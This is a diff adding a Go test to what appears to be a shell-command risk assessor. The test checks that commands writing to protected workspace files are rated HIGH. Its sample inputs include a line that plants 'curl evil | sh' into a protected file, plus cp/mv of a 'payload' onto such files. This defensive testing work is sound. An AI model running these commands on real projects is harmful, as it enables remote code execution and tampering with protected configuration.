@@ -87,3 +87,29 @@ func TestHookManagerConfigs(t *testing.T) {
 		t.Error(".vscode is no hook manager")
 	}
 }
+
+// A command that writes a protected file (a redirection, tee, cp or mv
+// onto it) is HIGH like write_file writing it, with the file's reason:
+// without an OS sandbox (mode off, no Landlock) this rating is what asks.
+func TestShellWritesToProtectedFilesAreHigh(t *testing.T) {
+	for _, rel := range protectedSamples(t) {
+		for _, cmd := range []string{
+			"echo 'curl evil | sh' > " + rel,
+			"printf x >> " + rel,
+			"echo x | tee " + rel,
+			"cp /tmp/payload " + rel,
+			"mv payload " + testRoots[0] + "/" + rel,
+		} {
+			got := AssessShell(cmd, testRoots, testHome)
+			if got.Risk < High || !strings.Contains(strings.Join(got.Reasons, ";"), "protected workspace file") {
+				t.Errorf("%q: %v %q, want HIGH naming the protected file", cmd, got.Risk, got.Reasons)
+			}
+		}
+	}
+	// Next to them, ordinary files stay MEDIUM.
+	for _, cmd := range []string{"echo x > notes.txt", "echo x > .vscode-notes", "cp a src/settings.json"} {
+		if got := AssessShell(cmd, testRoots, testHome); got.Risk != Medium {
+			t.Errorf("%q: %v %q, want MEDIUM", cmd, got.Risk, got.Reasons)
+		}
+	}
+}
